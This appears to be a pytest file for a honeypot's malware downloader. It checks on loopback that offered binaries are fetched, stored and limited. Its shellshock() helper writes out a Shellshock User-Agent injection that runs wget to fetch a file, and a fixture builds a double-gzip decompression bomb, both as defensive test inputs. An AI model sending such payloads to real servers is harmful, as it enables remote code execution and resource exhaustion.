"""The downloader end to end: curl sends a Shellshock header naming a URL to the running
honeypot's HTTP port, and the honeypot fetches that URL from a server this test runs on
loopback (HTTP with http.server, FTP with pyftpdlib, TFTP from the honeypot's own TFTP
service). Loopback is allowed only where the config says so.
"""

from __future__ import annotations

import gzip
import hashlib
import http.server
import os
import socket
import sqlite3
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.ioloop import IOLoop
from pyftpdlib.servers import FTPServer

from tests.conftest import only

PAYLOAD = b"\x7fELF" + os.urandom(3000)
BIG = os.urandom(100_000)
#: 64 MiB of zeros gzipped twice: about 70 KB on the wire
BOMB = gzip.compress(gzip.compress(bytes(64 << 20)))
ALLOW = {"download": {"allow_networks": ["127.0.0.0/8"]}}


class Origin(http.server.ThreadingHTTPServer):
    daemon_threads = True
    seen: list[tuple[str, dict[str, str]]]


class Handler(http.server.BaseHTTPRequestHandler):
    server: Origin

    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.server.seen.append((self.path, dict(self.headers)))
        if self.path == "/loop":
            self.send_response(302)
            self.send_header("Location", "/loop")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path == "/missing":
            self.send_error(404)
            return
        if self.path == "/slow":
            self.send_response(200)
            self.send_header("Content-Length", "100000")
            self.end_headers()
            try:
                for _ in range(60):
                    self.wfile.write(b"z")
                    self.wfile.flush()
                    time.sleep(0.1)
            except OSError:
                pass
            return
        if self.path == "/bomb":
            self.send_response(200)
            self.send_header("Content-Encoding", "gzip, gzip")
            self.send_header("Content-Length", str(len(BOMB)))
            self.end_headers()
            self.wfile.write(BOMB)
            return
        data = BIG if self.path == "/big" else PAYLOAD
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)


@pytest.fixture
def origin() -> Iterator[Origin]:
    srv = Origin(("127.0.0.1", 0), Handler)
    srv.seen = []
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield srv
    srv.shutdown()
    srv.server_close()


def shellshock(port: int, *urls: str) -> None:
    """What a scanner sends: a CGI request whose User-Agent runs wget on each URL."""
    cmd = "; ".join(f"wget {u} -O /tmp/.x" for u in urls)
    subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", "10", "-A", "() { :;}; " + cmd,
                    f"http://127.0.0.1:{port}/cgi-bin/status"], check=True, timeout=20)


def wait_for(check: Any, timeout: float = 15.0) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            value = check()
        except (sqlite3.OperationalError, ValueError):  # no tables yet; a line half written
            value = None
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError("condition not met in time")


def md5(data: bytes) -> str:
    return hashlib.md5(data).hexdigest()


def failures(hp: Any) -> dict[str, tuple[str, str]]:
    return {f["url"]: (f["reason"], f["detail"]) for line in hp.json_lines()
            for f in line.get("downloads_failed", [])}


def http_connection(hp: Any) -> int:
    rows = hp.rows("SELECT connection FROM connections WHERE local_port = ?", hp.port(80))
    assert len(rows) == 1
    return int(rows[0][0])


def test_shellshock_offer_is_fetched_and_stored(honeypot_factory: Any, origin: Origin) -> None:
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=ALLOW))
    url = f"http://localhost:{origin.server_port}/bot.x86"
    shellshock(hp.port(80), url)
    wait_for(lambda: hp.rows("SELECT 1 FROM downloads"))
    assert hp.stop() == 0
    conn = http_connection(hp)
    assert hp.rows("SELECT connection, download_url, download_md5_hash FROM downloads") == [
        (conn, url, md5(PAYLOAD))]
    assert (hp.state / "binaries" / md5(PAYLOAD)).read_bytes() == PAYLOAD
    assert [p for p, _ in origin.seen] == ["/bot.x86"]
    headers = origin.seen[0][1]
    assert headers["Host"] == f"localhost:{origin.server_port}"
    assert headers["User-Agent"].startswith("Mozilla/4.0 (compatible; MSIE 6.0;")
    downloads = [d for line in hp.json_lines() for d in line.get("downloads", [])]
    assert downloads == [{"url": url, "md5": md5(PAYLOAD),
                          "sha256": hashlib.sha256(PAYLOAD).hexdigest(), "size": len(PAYLOAD)}]


def test_default_config_refuses_loopback(honeypot_factory: Any, origin: Origin) -> None:
    hp = honeypot_factory(only({"http": {"tls_ports": []}}))
    url = f"http://127.0.0.1:{origin.server_port}/bot.x86"
    shellshock(hp.port(80), url)
    wait_for(lambda: url in failures(hp))
    assert hp.stop() == 0
    reason, detail = failures(hp)[url]
    assert reason == "destination" and "loopback" in detail
    assert origin.seen == []
    assert hp.rows("SELECT offer_url FROM offers") == [(url,)]
    assert hp.rows("SELECT * FROM downloads") == []
    assert not [p for p in (hp.state / "binaries").iterdir() if p.is_file()]


class NoEpsv(FTPHandler):
    """A server that only knows PASV and names an address inside a private network."""

    masquerade_address = "10.255.255.1"

    def ftp_EPSV(self, line: str) -> None:
        self.respond("500 Command not understood.")


@pytest.fixture
def ftp_servers(tmp_path: Path) -> Iterator[tuple[int, int]]:
    root = tmp_path / "ftproot"
    (root / "pub").mkdir(parents=True)
    (root / "pub" / "bot.arm").write_bytes(PAYLOAD)
    (root / "big.bin").write_bytes(BIG)
    auth = DummyAuthorizer()
    auth.add_anonymous(str(root))
    auth.add_user("bob", "s3cret", str(root), perm="elr")
    # both servers on one IOLoop served by one thread: pyftpdlib's loop is not
    # thread-safe, and two threads running it race on each other's connections
    ioloop = IOLoop()
    servers = []
    for cls in (FTPHandler, NoEpsv):
        handler = type(f"H{cls.__name__}", (cls,), {"authorizer": auth,
                                                    "passive_ports": None})
        servers.append(FTPServer(("127.0.0.1", 0), handler, ioloop=ioloop))
    thread = threading.Thread(target=servers[0].serve_forever, kwargs={"timeout": 0.2},
                              daemon=True)
    thread.start()
    yield servers[0].address[1], servers[1].address[1]
    servers[0].close_all()
    thread.join(timeout=5)


def test_ftp_offers_are_fetched(honeypot_factory: Any, ftp_servers: tuple[int, int]) -> None:
    plain, pasv_only = ftp_servers
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=ALLOW))
    anon = f"ftp://127.0.0.1:{plain}/pub/bot.arm"
    user = f"ftp://bob:s3cret@127.0.0.1:{pasv_only}/big.bin"
    missing = f"ftp://127.0.0.1:{plain}/nothing.here"
    shellshock(hp.port(80), anon, user, missing)
    wait_for(lambda: len(hp.rows("SELECT 1 FROM downloads")) == 2 and missing in failures(hp))
    assert hp.stop() == 0
    rows = set(hp.rows("SELECT download_url, download_md5_hash FROM downloads"))
    assert rows == {(anon, md5(PAYLOAD)), (user, md5(BIG))}
    assert (hp.state / "binaries" / md5(BIG)).read_bytes() == BIG
    assert failures(hp)[missing][0] == "status"


def test_tftp_offer_is_fetched(honeypot_factory: Any, tmp_path: Path) -> None:
    root = tmp_path / "tftproot"
    root.mkdir()
    (root / "x86.bin").write_bytes(BIG)
    hp = honeypot_factory(only({"http": {"tls_ports": []},
                                "tftp": {"udp_ports": [69], "root": str(root)}},
                               capture=ALLOW))
    url = f"tftp://127.0.0.1:{hp.port(69)}/x86.bin"
    gone = f"tftp://127.0.0.1:{hp.port(69)}/absent.bin"
    shellshock(hp.port(80), url, gone)
    wait_for(lambda: hp.rows("SELECT 1 FROM downloads") and gone in failures(hp))
    assert hp.stop() == 0
    assert hp.rows("SELECT download_url, download_md5_hash FROM downloads") == [(url, md5(BIG))]
    assert (hp.state / "binaries" / md5(BIG)).read_bytes() == BIG
    reason, detail = failures(hp)[gone]
    assert reason == "status" and "TFTP error 1" in detail


def test_limits(honeypot_factory: Any, origin: Origin) -> None:
    cfg = {"download": {"allow_networks": ["127.0.0.0/8"], "max_bytes": 4096,
                        "min_rate": 1000, "slow_window": 1.0, "max_redirects": 2,
                        "max_concurrent": 1, "max_pending": 1}}
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=cfg))
    base = f"http://127.0.0.1:{origin.server_port}"
    # one slot, one place in the queue: /slow runs, /big waits, /loop is refused
    shellshock(hp.port(80), f"{base}/slow", f"{base}/big", f"{base}/loop")
    wait_for(lambda: hp.rows("SELECT 1 FROM downloads"))
    shellshock(hp.port(80), f"{base}/loop", f"{base}/missing")
    wait_for(lambda: sum(len(x.get("downloads_failed", [])) for x in hp.json_lines()) == 4)
    assert hp.stop() == 0
    failed = failures(hp)
    assert failed[f"{base}/slow"][0] == "slow"
    assert failed[f"{base}/missing"] == ("status", "404")
    assert failed[f"{base}/loop"][0] == "redirects"  # the later line wins: the second offer
    busy = [f for line in hp.json_lines() for f in line.get("downloads_failed", [])
            if f["reason"] == "busy"]
    assert [f["url"] for f in busy] == [f"{base}/loop"]
    assert [p for p, _ in origin.seen].count("/loop") == 3  # the offer and two redirects
    cut = BIG[:4096]
    assert hp.rows("SELECT download_url, download_md5_hash FROM downloads") == [
        (f"{base}/big", md5(cut))]
    assert (hp.state / "binaries" / md5(cut)).read_bytes() == cut
    events = [e for line in hp.json_lines() for e in line.get("events", [])]
    assert {"kind": "store.refused", "detail": "max_bytes", "data": f"{base}/big"} in events


def test_connection_to_a_closed_port_is_reported(honeypot_factory: Any) -> None:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=ALLOW))
    url = f"http://127.0.0.1:{port}/x"
    shellshock(hp.port(80), url)
    wait_for(lambda: url in failures(hp))
    assert hp.stop() == 0
    assert failures(hp)[url][0] == "connect"


def test_https_with_sni_from_the_url(honeypot_factory: Any) -> None:
    """The honeypot fetches from its own HTTPS port: the ClientHello names the URL's host,
    the self-signed certificate is accepted, and the page is stored."""
    hp = honeypot_factory(only({"http": {}}, capture=ALLOW))
    url = f"https://localhost:{hp.port(443)}/"
    shellshock(hp.port(80), url)
    wait_for(lambda: hp.rows("SELECT 1 FROM downloads"))
    assert hp.stop() == 0
    assert ("localhost",) in hp.rows("SELECT tls_hello_sni FROM tls_hellos")
    ((md5_hash,),) = hp.rows("SELECT download_md5_hash FROM downloads WHERE download_url = ?",
                             url)
    assert (hp.state / "binaries" / md5_hash).stat().st_size > 0


def test_shutdown_gives_up_a_running_fetch(honeypot_factory: Any, origin: Origin) -> None:
    cfg = {"download": {"allow_networks": ["127.0.0.0/8"], "min_rate": 1}}
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=cfg))
    url = f"http://127.0.0.1:{origin.server_port}/slow"
    shellshock(hp.port(80), url)
    wait_for(lambda: origin.seen)
    started = time.monotonic()
    assert hp.stop() == 0
    assert time.monotonic() - started < 5
    assert failures(hp)[url][0] == "shutdown"
    assert not list((hp.state / "binaries" / ".incoming").iterdir())


def test_a_compressed_body_is_stored_as_served_never_decoded(honeypot_factory: Any,
                                                           origin: Origin) -> None:
    hp = honeypot_factory(only({"http": {"tls_ports": []}}, capture=ALLOW))
    url = f"http://127.0.0.1:{origin.server_port}/bomb"
    shellshock(hp.port(80), url)
    wait_for(lambda: hp.rows("SELECT 1 FROM downloads"))
    assert hp.stop() == 0
    # decoded, it would be 64 MiB (past max_bytes, and memory); kept, it is the wire's bytes
    assert hp.rows("SELECT download_url, download_md5_hash FROM downloads") == [
        (url, md5(BOMB))]
